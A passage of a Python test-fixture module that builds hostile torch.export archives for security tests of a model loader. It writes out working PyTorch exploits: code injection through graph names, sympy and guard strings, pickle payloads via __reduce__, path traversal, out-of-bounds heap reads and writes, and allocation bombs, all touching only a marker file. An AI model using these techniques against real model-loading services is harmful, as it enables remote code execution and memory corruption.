"""Hostile ``torch.export`` archives (``.pt2``), built as bytes, for the security tests of :mod:`rvsm.exported`.

Every builder starts from a real export of a small model (:func:`valid`, or a purpose-built one), rewrites the
parts of the archive an attacker controls, and returns the zip's bytes. Builders are deterministic (fixed zip
timestamps and ``serialization_id``; the baseline exports are cached per process) and fast (under 3 s on a
CPU: about 2 s for the first call, which exports a baseline, milliseconds after). :data:`ATTACKS` maps a short
name to every builder as ``f(marker) -> bytes``; code-execution payloads create the file ``marker`` (they never
run a shell), the others ignore it.

What plain torch 2.13 does with each archive (``torch.export.load(io.BytesIO(data))``, then ``.module()``,
then a forward pass) is said in each docstring and, for the payloads that run, in :data:`RUNS_IN_PLAIN_TORCH`
("load" means the marker appears during ``torch.export.load`` itself). Facts about torch 2.13 this module relies
on (read from its source, and each checked by running plain torch in a subprocess):

- A graph *input* name (``graph.inputs[i].as_tensor.name``, lifted parameters included) becomes an FX
  placeholder whose ``target`` is the raw string (``sync_fx_node`` also overwrites ``node.name`` unchecked). FX
  pastes the target unescaped twice: into ``def forward(self, <targets>):`` and, as the sanitized node name
  differs, into a body line ``<sanitized> = <target>``. The exported program's own ``GraphModule`` is compiled
  during ``torch.export.load``, so code in a default argument runs at load: ``x=<code>`` works as the last input
  (the body line is a chained assignment); anywhere else a triple quote opened in the first copy and closed in
  the second makes the source compile. A source that does not compile is swallowed at load (torch warns and
  keeps an uncallable module) and raises ``SyntaxError`` at ``.module()``.
- A parameter, buffer or tensor-constant name (the state-dict key, ``parameter_name``/``buffer_name``/
  ``tensor_constant_name``) becomes a ``get_attr`` target in the unlifted module: ``.module()`` generates
  ``getattr(self, "<part>")`` for each ``.``-separated part that is not an identifier, with no escaping. A
  ``"`` in a part ends the string (``SyntaxError`` at ``.module()``); a payload without ``.`` runs either in the
  forward pass (``getattr(self, "a") if <code> else getattr(self, "a")``) or at module level when
  ``.module()`` compiles the source, through ``\\r`` line breaks (``compile`` takes a lone ``\\r`` as a
  newline; FX only indents the body after ``\\n``).
- ``forward_arg_names`` (``module_call_graph[0].signature``) are pasted into the unlifted ``def forward`` and
  into its first line (``<names>, = fx_pytree.tree_flatten_spec(([<names>], {}), ...)``): a bare default
  argument is a ``SyntaxError``, a triple quote plus a comment makes it compile, and the code runs at
  ``.module()``.
- Keyword-argument names of nodes whose target is a plain callable (not an ``OpOverload``, e.g.
  ``torch.nn.functional.relu``) are kept as serialized and pasted as ``name = value``; with a ``\\r`` the code
  runs at load, before torch's verifier refuses the target.
- Node names of ``call_function`` nodes are *not* an injection path: FX codegen re-derives every variable name
  through its ``Namespace`` (``[^0-9a-zA-Z_]`` becomes ``_``, keywords and builtins get a suffix).
- Targets: torch resolves a target string by ``getattr`` from ``torch``/``operator``/``math`` (``torch.os.mknod``
  resolves), but the program's verifier (dialect ``TRAINING``) refuses any call that is not an operator at load;
  an ATen operator that touches files (``aten.from_file(shared=True)`` creates its file) passes it.
- ``aten._reshape_alias`` checks nothing about its storage: plain torch reads past a tensor's end (garbage in the
  output) or writes past it (a segfault here); ``aten.as_strided`` checks the bounds and raises in the forward.
- Plain torch never reads a member nothing references, nor checks compression ratios; miniz refuses a member
  flagged as encrypted; ``json.loads`` raises ``RecursionError`` past about 1000 levels of nesting.
"""

from __future__ import annotations

import functools
import io
import json
import os
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable, Collection, Iterable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Literal

import torch
from torch import Tensor, nn

ROOT = "archive"
PROGRAM = "models/model.json"
WEIGHTS_CONFIG = "data/weights/model_weights_config.json"
CONSTANTS_CONFIG = "data/constants/model_constants_config.json"
SAMPLE_INPUTS = "data/sample_inputs/model.pt"
JSON_MEMBERS = (PROGRAM, WEIGHTS_CONFIG, CONSTANTS_CONFIG)
SERIALIZATION_ID = b"0" * 40  # torch writes a new one per save; a fixed one keeps the builders deterministic
INPUT_SHAPE = {"cnn": (1, 8, 8), "mlp": (64,)}  # per sample; every baseline takes one tensor, batch dimension first
OUTPUTS = 10
OOB_ELEMENTS = 1_048_576  # the out-of-bounds views see this many float32 (4 MiB) of a 4-float storage

Json = Any  # a parsed JSON value
Program = dict[str, Any]  # the parsed models/model.json


# ----------------------------------------------------------------------------- zip writing
@dataclass(frozen=True)
class Raw:
    """A member given as already-compressed bytes, written as is: ``data`` is a raw deflate stream (``method``
    8) or the stored bytes (``method`` 0); ``size`` and ``crc`` describe the uncompressed content and ``flags``
    is the general-purpose bit field (bit 0: encrypted)."""

    data: bytes
    size: int
    crc: int
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0


def deflated(content: bytes, *, flags: int = 0) -> Raw:
    """``content`` as a deflated member."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return Raw(c.compress(content) + c.flush(), len(content), zlib.crc32(content), zipfile.ZIP_DEFLATED, flags)


def stored(content: bytes, *, flags: int = 0) -> Raw:
    """``content`` as a stored member."""
    return Raw(content, len(content), zlib.crc32(content), zipfile.ZIP_STORED, flags)


_ZERO_CHUNK = 8 << 20


@functools.cache
def _zeros_block(n: int) -> bytes:
    """``n`` zero bytes as a self-contained, byte-aligned piece of raw deflate stream (a full flush ends it and
    clears the history, so copies of it can be concatenated)."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(bytes(n)) + c.flush(zlib.Z_FULL_FLUSH)


@functools.cache
def _zeros_crc(n: int) -> int:
    crc, chunk = 0, bytes(min(n, _ZERO_CHUNK))
    for _ in range(n // _ZERO_CHUNK):
        crc = zlib.crc32(chunk, crc)
    return zlib.crc32(chunk[: n % _ZERO_CHUNK], crc) if n % _ZERO_CHUNK else crc


def deflated_zeros(n: int) -> Raw:
    """``n`` zero bytes deflated at about 1024:1, built without compressing ``n`` bytes: one 8 MiB deflate block
    repeated (about 0.3 s per GiB, spent on the CRC, and ``n / 1024`` bytes of memory)."""
    if n >= 2**32:
        raise ValueError("members of 4 GiB or more need zip64, which this writer does not write")
    full, rest = divmod(n, _ZERO_CHUNK)
    data = _zeros_block(_ZERO_CHUNK) * full + (_zeros_block(rest) if rest else b"") + b"\x03\x00"  # final block
    return Raw(data, n, _zeros_crc(n))


def write_members(members: Mapping[str, bytes | Raw], root: str = ROOT, *, deflate: Collection[str] = ()) -> bytes:
    """A zip holding ``members`` (names relative to ``root``) in order: ``bytes`` stored (deflated if the name is
    in ``deflate``), :class:`Raw` written as given. Timestamps are fixed, so equal input gives equal bytes."""
    out = io.BytesIO()
    central: list[bytes] = []
    for rel, value in members.items():
        raw = value if isinstance(value, Raw) else (deflated(value) if rel in deflate else stored(value))
        name = f"{root}/{rel}".encode() if root else rel.encode()
        flags = raw.flags | (0x800 if not name.isascii() else 0)  # bit 11: the name is UTF-8
        offset = out.tell()
        fields = (20, flags, raw.method, 0, 0x21, raw.crc & 0xFFFFFFFF, len(raw.data), raw.size, len(name))
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields, 0) + name)
        out.write(raw.data)
        central.append(
            struct.pack("<IH", 0x02014B50, 20)
            + struct.pack("<HHHHHIIIHH", *fields, 0)
            + struct.pack("<HHHII", 0, 0, 0, 0, offset)
            + name
        )
    start = out.tell()
    out.write(b"".join(central))
    size = out.tell() - start
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), size, start, 0))
    return out.getvalue()


def read_members(data: bytes) -> dict[str, bytes]:
    """Every member of the zip ``data``, by its name relative to the archive's root folder (``models/model.json``).
    Only for archives this module built from a baseline: a bomb would be expanded."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {n.split("/", 1)[1] if "/" in n else n: z.read(n) for n in z.namelist()}


def root_of(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.namelist()[0].split("/", 1)[0]


def edit_members(data: bytes, fn: Callable[[dict[str, bytes]], Mapping[str, bytes | Raw] | None]) -> bytes:
    """The archive with ``fn`` applied to its members (edit the dict in place, or return a new mapping)."""
    members = read_members(data)
    result = fn(members)
    return write_members(members if result is None else result, root_of(data))


def edit_json(data: bytes, member: str, fn: Callable[[Json], Json | None]) -> bytes:
    """The archive with ``fn`` applied to the parsed JSON member ``member`` (edit in place, or return a new value)."""

    def edit(members: dict[str, bytes]) -> None:
        value = json.loads(members[member])
        result = fn(value)
        members[member] = json.dumps(value if result is None else result).encode()

    return edit_members(data, edit)


def edit_program(data: bytes, fn: Callable[[Program], Program | None]) -> bytes:
    """The archive with ``fn`` applied to the parsed ``models/model.json`` (the serialized ExportedProgram)."""
    return edit_json(data, PROGRAM, fn)


def replace_strings(value: Json, old: str, new: str) -> Json:
    """``value`` with every string equal to ``old`` (dict keys included) replaced by ``new``."""
    if isinstance(value, dict):
        return {replace_strings(k, old, new): replace_strings(v, old, new) for k, v in value.items()}
    if isinstance(value, list):
        return [replace_strings(v, old, new) for v in value]
    return new if value == old else value


def rename(data: bytes, old: str, new: str, members: Iterable[str] = JSON_MEMBERS) -> bytes:
    """The archive with the name ``old`` replaced by ``new`` wherever it is a whole JSON string (a key or a value)
    in ``members``: a consistent rename of a parameter, buffer, constant, node or input."""

    def edit(m: dict[str, bytes]) -> None:
        for member in members:
            m[member] = json.dumps(replace_strings(json.loads(m[member]), old, new)).encode()

    return edit_members(data, edit)


# ----------------------------------------------------------------------------- program helpers
def nodes(program: Program) -> list[dict[str, Any]]:
    return program["graph_module"]["graph"]["nodes"]


def node(program: Program, *, name: str | None = None, target: str | None = None) -> dict[str, Any]:
    """The first node with this name, or calling this target (``torch.ops.aten.view.default``)."""
    for n in nodes(program):
        if (name is None or n["name"] == name) and (target is None or n["target"] == target):
            return n
    raise KeyError(name or target)


def node_input(n: dict[str, Any], name: str) -> dict[str, Any]:
    """A node's serialized argument ``name`` (``{"as_ints": [2, 2]}``, ``{"as_tensor": {"name": "x"}}``...)."""
    for i in n["inputs"]:
        if i["name"] == name:
            return i["arg"]
    raise KeyError(name)


def set_target(n: dict[str, Any], target: str, args: Mapping[str, Json]) -> None:
    """Make node ``n`` call ``target`` with ``args`` (serialized arguments by schema name); each argument's kind
    (positional or keyword) follows the operator's schema."""
    schema = _schema(target)
    kinds = {a.name: 2 if a.kwarg_only else 1 for a in schema.arguments}
    unknown = set(args) - set(kinds)
    if unknown:
        raise ValueError(f"{target} has no argument {sorted(unknown)}")
    n["target"] = target
    n["inputs"] = [
        {"name": a.name, "arg": args[a.name], "kind": kinds[a.name]} for a in schema.arguments if a.name in args
    ]


def _schema(target: str) -> torch.FunctionSchema:
    op: Any = torch
    for part in target.split(".")[1:]:
        op = getattr(op, part)
    return op._schema


def set_shape(program: Program, name: str, sizes: list[int], strides: list[int] | None = None) -> None:
    """The tensor metadata of value ``name`` (``graph.tensor_values``) made to say ``sizes`` (contiguous strides
    unless given): rewritten nodes keep their declared shapes consistent, as an attacker would."""
    if strides is None:
        strides, step = [], 1
        for s in reversed(sizes):
            strides.insert(0, step)
            step *= max(s, 1)
    meta = program["graph_module"]["graph"]["tensor_values"][name]
    meta["sizes"] = [{"as_int": s} for s in sizes]
    meta["strides"] = [{"as_int": s} for s in strides]


def tensor(name: str) -> dict[str, Any]:
    return {"as_tensor": {"name": name}}


def ints(values: list[int]) -> dict[str, Any]:
    return {"as_ints": values}


def touch_code(marker: Path) -> str:
    """A Python expression that creates ``marker`` (``__import__('pathlib').Path(...).touch()``)."""
    return f"__import__('pathlib').Path({str(marker)!r}).touch()"


def touch_code_plain(marker: Path) -> str:
    """A Python expression that creates ``marker`` with neither ``.`` nor quotes in it (``open(bytes((47, ...)),
    chr(97))``): it survives torch's split of attribute paths on ``.`` and slips past quote filters."""
    return f"open(bytes(({', '.join(str(b) for b in os.fsencode(marker))},)), chr(97))"


class _Touch:
    """Unpickles to ``open(marker, "a")``: the marker is created by the unpickler itself."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str, str]]:
        return (open, (self.marker, "a"))


# ----------------------------------------------------------------------------- baselines
class _CNN(nn.Module):
    """conv + batch norm + relu + linear on 1x8x8, 10 outputs; a buffer-free tensor constant (``shift``) too."""

    def __init__(self) -> None:
        super().__init__()
        self.conv, self.bn = nn.Conv2d(1, 4, 3, padding=1), nn.BatchNorm2d(4)
        self.fc = nn.Linear(4 * 8 * 8, OUTPUTS)
        self.shift = torch.linspace(-0.5, 0.5, OUTPUTS)  # a plain tensor attribute: a lifted tensor constant

    def forward(self, x: Tensor) -> Tensor:
        return self.fc(torch.relu(self.bn(self.conv(x))).flatten(1)) + self.shift


class _MLP(nn.Module):
    """64 -> 32 -> 10."""

    def __init__(self) -> None:
        super().__init__()
        self.fc1, self.fc2 = nn.Linear(64, 32), nn.Linear(32, OUTPUTS)

    def forward(self, x: Tensor) -> Tensor:
        return self.fc2(torch.relu(self.fc1(x)))


class _Alias(nn.Module):
    """A safe ``view`` of a 4-float buffer (``b``), read (``clone``) or written (``fill_``/``copy_``) through;
    the out-of-bounds builders rewrite the ``view`` node."""

    def __init__(self, mode: str) -> None:
        super().__init__()
        self.mode = mode
        self.fc = nn.Linear(64, OUTPUTS)
        self.register_buffer("b", torch.zeros(4))
        self.register_buffer("one", torch.ones(1))

    def forward(self, x: Tensor) -> Tensor:
        if self.mode == "read":
            return self.fc(x) + self.b.view(2, 2).clone().sum()
        t = self.b.clone()
        if self.mode == "fill_":
            t.view(2, 2).fill_(1.0)
        else:
            t.view(2, 2).copy_(self.one)
        return self.fc(x) + t.sum()


class _Factory(nn.Module):
    """``torch.ones(3)`` summed into the output, after a clone of a 3-float buffer (a fresh tensor whose storage
    can be resized, unlike the buffer's, which torch maps from the archive); the allocation builders rewrite the
    ``ones`` node (its size, or its target: ``zeros``, ``empty``, ``zeros.out(out=clone)``, ``resize_(clone)``)."""

    def __init__(self) -> None:
        super().__init__()
        self.fc = nn.Linear(64, OUTPUTS)
        self.register_buffer("b", torch.zeros(3))

    def forward(self, x: Tensor) -> Tensor:
        t = self.b.clone()
        return self.fc(x) + torch.ones(3).sum() + t.sum()


class _Expand(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.fc = nn.Linear(64, OUTPUTS)

    def forward(self, x: Tensor) -> Tensor:
        return self.fc(x) + torch.ones(1).expand(3).sum()


_MODELS: dict[str, Callable[[], nn.Module]] = {
    "cnn": _CNN,
    "mlp": _MLP,
    "alias_read": lambda: _Alias("read"),
    "alias_fill_": lambda: _Alias("fill_"),
    "alias_copy_": lambda: _Alias("copy_"),
    "factory": _Factory,
    "expand": _Expand,
}


@functools.cache
def _export(kind: str) -> bytes:
    """A real ``torch.export`` of the model ``kind`` with a dynamic batch dimension, as the README tells users,
    rewritten by :func:`write_members` (fixed timestamps and serialization id) so it is the same every time."""
    from torch.export import Dim

    with torch.random.fork_rng(devices=[]):
        torch.manual_seed(0)
        model = _MODELS[kind]().eval()
        shape = INPUT_SHAPE["cnn" if kind == "cnn" else "mlp"]
        ep = torch.export.export(model, (torch.randn(2, *shape),), dynamic_shapes={"x": {0: Dim("batch")}})
    buf = io.BytesIO()
    torch.export.save(ep, buf)
    members = read_members(buf.getvalue())
    members[".data/serialization_id"] = SERIALIZATION_ID
    return write_members(members)


def valid(kind: Literal["cnn", "mlp"] = "cnn") -> bytes:
    """A valid exported model with a dynamic batch dimension, the baseline the attacks mutate: ``"cnn"`` takes
    ``(batch, 1, 8, 8)`` (conv, batch norm, relu, linear, plus a tensor constant), ``"mlp"`` takes ``(batch,
    64)``; both return ``(batch, 10)``. Plain torch loads it, unlifts it and runs it."""
    return _export(kind)


def sample_input(kind: str = "cnn", batch: int = 2) -> Tensor:
    """An input for the baseline ``kind`` (every builder not based on the CNN takes the MLP's 64 features)."""
    return torch.randn(batch, *INPUT_SHAPE["cnn" if kind == "cnn" else "mlp"])


# ----------------------------------------------------------------------------- code execution through names
def _escape_getattr(code: str, *, at: Literal["module", "forward"]) -> str:
    """A name part that, pasted into ``getattr(self, "<part>")``, runs ``code`` when ``.module()`` compiles the
    source (``at="module"``: ``\\r`` line breaks put it at module level) or in the forward pass."""
    if at == "module":
        return f'p")\r{code}\rdef _f(self):\r    _ = getattr(self, "p'
    return f'p") if {code} else getattr(self, "p'


def code_in_parameter_name(marker: Path, *, at: Literal["module", "forward"] = "module") -> bytes:
    """A parameter named ``fc.<payload>`` (the CNN's ``fc.bias`` renamed in the signature and the weights table).

    ``.module()`` generates ``getattr(self.fc, "<payload>")`` unescaped. Plain torch: with ``at="module"`` the
    payload runs when ``.module()`` compiles the unlifted forward; with ``at="forward"`` it runs in the forward
    pass. (The payload has no ``.``: torch splits attribute paths on dots.)"""
    return rename(valid(), "fc.bias", "fc." + _escape_getattr(touch_code_plain(marker), at=at))


def code_in_buffer_name(marker: Path, *, at: Literal["module", "forward"] = "module") -> bytes:
    """A buffer named ``bn.<payload>`` (the CNN's ``bn.running_mean``); as :func:`code_in_parameter_name`.
    Plain torch: runs it at ``.module()`` (``at="module"``) or in the forward pass (``at="forward"``)."""
    return rename(valid(), "bn.running_mean", "bn." + _escape_getattr(touch_code_plain(marker), at=at))


def code_in_constant_name(marker: Path, *, at: Literal["module", "forward"] = "module") -> bytes:
    """A lifted tensor constant named ``<payload>`` (the CNN's ``shift``, renamed in the signature and the
    constants table). Plain torch: runs it at ``.module()`` (``at="module"``) or in the forward pass."""
    return rename(valid(), "shift", _escape_getattr(touch_code_plain(marker), at=at))


def quote_in_name() -> bytes:
    """A parameter named ``fc.b"ias``: harmless, but ``.module()`` generates ``getattr(self.fc, "b"ias")``, a
    ``SyntaxError`` (a 500 where the service lets it through)."""
    return rename(valid(), "fc.bias", 'fc.b"ias')


def code_in_node_name(marker: Path) -> bytes:
    """The CNN's ``relu`` node (its name, its output and every use) renamed to a payload with ``\\r`` breaks.

    Plain torch does NOT run it: FX codegen sanitizes every node variable name (``relu_open_bytes_47_...``), so
    this is a name to refuse, not a working exploit (it does load and run)."""
    payload = f"relu\r{touch_code_plain(marker)}\rdef _f(self):\r    relu"
    return rename(valid(), "relu", payload, [PROGRAM])


def code_in_input_name(marker: Path) -> bytes:
    """The user input ``x`` renamed ``x=<payload>`` in the graph (inputs, signature, uses, metadata; not in
    ``forward_arg_names``). Placeholder targets are pasted raw into ``def forward(self, ..., x=<payload>):``:
    plain torch runs the payload at load (``torch.export.load`` compiles the program's GraphModule; the default
    argument is evaluated by the ``def``). No quotes, no ``\\r``."""
    data = rename(valid(), "x", "x=" + touch_code_plain(marker), [PROGRAM])

    def restore(p: Program) -> None:
        p["graph_module"]["module_call_graph"][0]["signature"]["forward_arg_names"] = ["x"]

    return edit_program(data, restore)


def code_in_placeholder_name(marker: Path) -> bytes:
    """The lifted parameter input ``p_fc_bias`` (a placeholder in the middle of the signature) renamed to
    ``p_fc_bias=(<payload>) or \"\"\"):``. FX pastes the raw name twice: into ``def forward(self, ...,
    <name>, b_..., x):`` and into a body line ``<sanitized> = <name>``; the triple quote opened in the first
    copy closes in the second, so the source compiles with the payload as a default argument. Plain torch runs
    it at load (no ``\\r`` needed)."""
    return rename(valid(), "p_fc_bias", f'p_fc_bias=({touch_code_plain(marker)}) or """):', [PROGRAM])


def code_in_forward_arg_name(marker: Path) -> bytes:
    """``forward_arg_names`` (``module_call_graph[0].signature``) set to ``["x=(<payload>) or \"\"\"):\\r
    return None\\r#"]``. The unlifted module pastes the names twice, into ``def forward(self, <names>):`` and into
    ``<names>, = fx_pytree.tree_flatten_spec(([<names>], {}), ...)``; the triple quote and the comment make the
    two copies compile with the payload as a default argument. Plain torch runs it at ``.module()``. (A bare
    ``x=<payload>`` is a ``SyntaxError`` at ``.module()``.)"""
    name = f'x=({touch_code_plain(marker)}) or """):\r    return None\r#'

    def edit(p: Program) -> None:
        p["graph_module"]["module_call_graph"][0]["signature"]["forward_arg_names"] = [name]

    return edit_program(valid(), edit)


def code_in_kwarg_name(marker: Path) -> bytes:
    """The CNN's ``relu`` node calling ``torch.nn.functional.relu`` (a plain callable: torch keeps serialized
    keyword names as they are) with a keyword argument named ``inplace = False)\\r<payload>\\r...``. FX pastes
    keyword names raw (``name = value``); plain torch runs the payload at load. The target alone is refused by
    an ATen allow-list; the name must be refused too."""
    name = f"inplace = False)\r{touch_code_plain(marker)}\rdef _f(self):\r    _ = dict(_k"

    def edit(p: Program) -> None:
        n = node(p, target="torch.ops.aten.relu.default")
        n["target"] = "torch.nn.functional.relu"
        n["inputs"] = [
            {"name": "input", "arg": n["inputs"][0]["arg"], "kind": 1},
            {"name": name, "arg": {"as_bool": False}, "kind": 2},
        ]

    return edit_program(valid(), edit)


# ----------------------------------------------------------------------------- code execution: expressions, pickles
def sympy_expression(marker: Path) -> bytes:
    """The input's symbolic batch size (``tensor_values.x.sizes[0].as_expr.expr_str``) replaced by a Python
    expression: torch parses it with ``sympy.sympify``, which evaluates it. Plain torch runs it at load."""

    def edit(p: Program) -> None:
        p["graph_module"]["graph"]["tensor_values"]["x"]["sizes"][0]["as_expr"]["expr_str"] = touch_code(marker)

    return edit_program(valid(), edit)


def guards_code(marker: Path) -> bytes:
    """``guards_code`` set to ``["<payload> is None"]``: ``ExportedProgram.module()`` compiles the guard source
    into ``_guards_fn`` and calls it first thing in the forward. Plain torch runs it in the forward pass."""
    return edit_program(valid(), lambda p: p.__setitem__("guards_code", [f"{touch_code(marker)} is None"]))


def graph_target(marker: Path) -> bytes:
    """The CNN's ``relu`` node calling ``aten.from_file(<marker>, shared=True, size=1)``: an ATen operator (so
    torch's own verifier lets it through) that opens its file with ``O_CREAT`` when ``shared``. Plain torch
    creates the marker in the forward pass (and the forward then fails on the shape)."""

    def edit(p: Program) -> None:
        n = node(p, target="torch.ops.aten.relu.default")
        set_target(
            n,
            "torch.ops.aten.from_file.default",
            {"filename": {"as_string": str(marker)}, "shared": {"as_bool": True}, "size": {"as_int": 1}},
        )

    return edit_program(valid(), edit)


def graph_target_os(marker: Path, target: str = "torch.os.mknod") -> bytes:
    """The CNN's ``relu`` node calling ``torch.os.mknod(<marker>)``: torch resolves a target by ``getattr`` from
    ``torch`` (so ``torch.os`` is the ``os`` module). Plain torch 2.13 does NOT run it: the program's verifier
    (dialect ``TRAINING``) refuses a call_function target that is not an operator at load
    (``SpecViolationError``); the target must be refused anyway."""

    def edit(p: Program) -> None:
        n = node(p, target="torch.ops.aten.relu.default")
        n["target"] = target
        n["inputs"] = [{"name": "path", "arg": {"as_string": str(marker)}, "kind": 1}]

    return edit_program(valid(), edit)


def other_target(target: str) -> bytes:
    """The first node's target replaced by ``target`` (``torch.ops.aten.from_file.default``,
    ``torch.ops.higher_order.cond``, ``builtins.eval``...), its arguments left as they were: refuse by target."""

    def edit(p: Program) -> None:
        nodes(p)[0]["target"] = target

    return edit_program(valid(), edit)


def pickled_weight(marker: Path) -> bytes:
    """The first weight flagged ``use_pickle`` and replaced by a pickle whose ``__reduce__`` opens the marker:
    torch reads such weights with ``torch.load(weights_only=False)``. Plain torch runs it at load."""
    buf = io.BytesIO()
    torch.save(_Touch(marker), buf)

    def edit(m: dict[str, bytes]) -> None:
        config = json.loads(m[WEIGHTS_CONFIG])
        first = next(iter(config["config"].values()))
        first["use_pickle"] = True
        m[WEIGHTS_CONFIG] = json.dumps(config).encode()
        m["data/weights/" + first["path_name"]] = buf.getvalue()

    return edit_members(valid(), edit)


def pickled_constant(marker: Path) -> bytes:
    """The tensor constant ``shift`` flagged ``use_pickle`` and its file replaced by a ``torch.save``d payload.
    Plain torch runs it at load (constants too are read with ``torch.load(weights_only=False)``)."""
    buf = io.BytesIO()
    torch.save(_Touch(marker), buf)

    def edit(m: dict[str, bytes]) -> None:
        config = json.loads(m[CONSTANTS_CONFIG])
        entry = config["config"]["shift"]
        entry["use_pickle"] = True
        m[CONSTANTS_CONFIG] = json.dumps(config).encode()
        m["data/constants/" + entry["path_name"]] = buf.getvalue()

    return edit_members(valid(), edit)


def pickled_sample_inputs(marker: Path) -> bytes:
    """``data/sample_inputs/model.pt`` replaced by a ``torch.save``d ``((payload,), {})``: torch tries
    ``weights_only=True``, then falls back to ``weights_only=False``. Plain torch runs it at load."""
    buf = io.BytesIO()
    torch.save(((_Touch(marker),), {}), buf)
    return edit_members(valid(), lambda m: m.__setitem__(SAMPLE_INPUTS, buf.getvalue()))


def opaque_constant(marker: Path) -> bytes:
    """The constants table naming one opaque object (``opaque_obj_0``, ``use_pickle``, no tensor metadata) whose
    file is a plain ``pickle`` of the payload: torch ``pickle.loads`` every entry of the table, used by the
    program or not. Plain torch runs it at load."""

    def edit(m: dict[str, bytes]) -> None:
        entry = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}
        m[CONSTANTS_CONFIG] = json.dumps({"config": {"c": entry}}).encode()
        m["data/constants/opaque_obj_0"] = pickle.dumps(_Touch(marker))

    return edit_members(valid(), edit)


def missing_program() -> bytes:
    """No ``models/model.json``: plain torch fails at load."""
    return edit_members(valid(), lambda m: {k: v for k, v in m.items() if k != PROGRAM})


def traversal_member() -> bytes:
    """An extra member ``archive/extra/../../evil.py``: a path that climbs out of an extraction folder."""
    return edit_members(valid(), lambda m: m.__setitem__("extra/../../evil.py", b"x"))


def program_not_json() -> bytes:
    """``models/model.json`` that is not JSON: plain torch fails at load (``JSONDecodeError``)."""
    return edit_members(valid(), lambda m: m.__setitem__(PROGRAM, b"{not json"))


# ----------------------------------------------------------------------------- out-of-bounds views
_VIEW = "torch.ops.aten.view.default"


def oob_op(target: str, *, write: Literal[None, "fill_", "copy_"] = None, n: int = OOB_ELEMENTS) -> bytes:
    """The ``view`` of a 4-float tensor in :class:`_Alias` rewritten to call ``target`` with size ``[n]`` (and
    stride ``[1]``, storage offset 0, where its schema has them); the view is then read (``clone`` and summed
    into the output) or, with ``write``, written through (``fill_`` or ``copy_``). Shapes in the metadata are
    updated to match. Whether plain torch reads or writes out of bounds depends on whether ``target`` checks
    its storage (``_reshape_alias`` does not, ``as_strided`` does)."""
    names = {a.name for a in _schema(target).arguments}
    values = {"self": None, "size": ints([n]), "stride": ints([1]), "storage_offset": {"as_int": 0}}

    def edit(p: Program) -> None:
        v = node(p, target=_VIEW)
        values["self"] = node_input(v, "self")
        set_target(v, target, {k: values[k] for k in names if k in values})
        later = [x for x in nodes(p) if any(i["arg"] == tensor(v["name"]) for i in x["inputs"])]
        for name in [v["name"], *[x["name"] for x in later if x["target"] != "torch.ops.aten.sum.default"]]:
            set_shape(p, name, [n])

    return edit_program(_export("alias_read" if write is None else f"alias_{write}"), edit)


def oob_view_read(op: Literal["_reshape_alias", "as_strided"] = "_reshape_alias") -> bytes:
    """A 4-float buffer viewed as 1,048,576 floats (``aten._reshape_alias(b, [1048576], [1])``, or
    ``aten.as_strided``), cloned and summed into the output: a 4 MiB read past the buffer's end.

    Plain torch: with ``_reshape_alias`` the forward pass reads out of bounds (here: no crash, NaN in the
    output; a segfault where the read reaches unmapped memory); with ``as_strided`` the forward pass raises
    (``setStorage: ... out of bounds for storage of size 16``)."""
    return oob_op(f"torch.ops.aten.{op}.default")


def oob_view_write(
    op: Literal["_reshape_alias", "as_strided"] = "_reshape_alias", via: Literal["fill_", "copy_"] = "fill_"
) -> bytes:
    """A clone of a 4-float buffer viewed as 1,048,576 floats and written through (``fill_(1.0)``, or ``copy_``
    of a one-element buffer): a 4 MiB heap overflow.

    Plain torch: with ``_reshape_alias`` the forward pass writes out of bounds (here: a segfault, both ways);
    with ``as_strided`` it raises first."""
    return oob_op(f"torch.ops.aten.{op}.default", write=via)


# ----------------------------------------------------------------------------- real allocations
_ONES = "torch.ops.aten.ones.default"


def _rewrite_factory(target: str, args: Callable[[dict[str, Any]], Mapping[str, Json]], n: int) -> bytes:
    def edit(p: Program) -> None:
        f = node(p, target=_ONES)
        set_target(f, target, args(f))
        set_shape(p, f["name"], [n])

    return edit_program(_export("factory"), edit)


def _factory_args(f: dict[str, Any], n: int) -> dict[str, Json]:
    return {"size": ints([n]), "device": node_input(f, "device"), "pin_memory": node_input(f, "pin_memory")}


def factory_alloc(n: int = 2**31, op: Literal["ones", "zeros"] = "ones") -> bytes:
    """``torch.ones(n)`` (or ``torch.zeros(n, device='cpu')``) in the forward, summed into the output: exported
    with ``n = 3``, the size rewritten. Plain torch allocates ``4 n`` bytes in the forward pass."""
    return _rewrite_factory(f"torch.ops.aten.{op}.default", lambda f: _factory_args(f, n), n)


def empty_uninit(n: int = 2**31) -> bytes:
    """``torch.empty(n)`` (``aten.empty.memory_format``) summed into the output: uninitialised memory read into
    the result (and ``4 n`` bytes allocated). Plain torch runs it in the forward pass."""
    return _rewrite_factory("torch.ops.aten.empty.memory_format", lambda f: _factory_args(f, n), n)


def out_alloc(n: int = 2**31, target: str = "torch.ops.aten.zeros.out") -> bytes:
    """``aten.zeros.out(size=[n], out=clone)``: an ``out=`` overload that resizes a 3-float tensor (a clone of a
    buffer) to ``n`` floats. Plain torch allocates ``4 n`` bytes in the forward pass. (With ``out=`` a buffer,
    plain torch raises instead: the storage of a loaded weight is not resizable.)"""
    return _rewrite_factory(target, lambda f: {"size": ints([n]), "out": tensor("clone")}, n)


def resize_alloc(n: int = 2**31) -> bytes:
    """``aten.resize_(clone, [n])`` on a 3-float tensor (a clone of a buffer), its result summed: plain torch
    allocates ``4 n`` bytes in the forward pass (and sums uninitialised memory)."""
    return _rewrite_factory("torch.ops.aten.resize_.default", lambda f: {"self": tensor("clone"), "size": ints([n])}, n)


def expand_reduce(n: int = 2**40) -> bytes:
    """``torch.ones(1).expand(n).sum()``: nothing is allocated (the expand is a stride-0 view) but the sum reads
    ``n`` elements. Exported with ``n = 3``, the expand's size rewritten; plain torch spends the time in the
    forward pass."""

    def edit(p: Program) -> None:
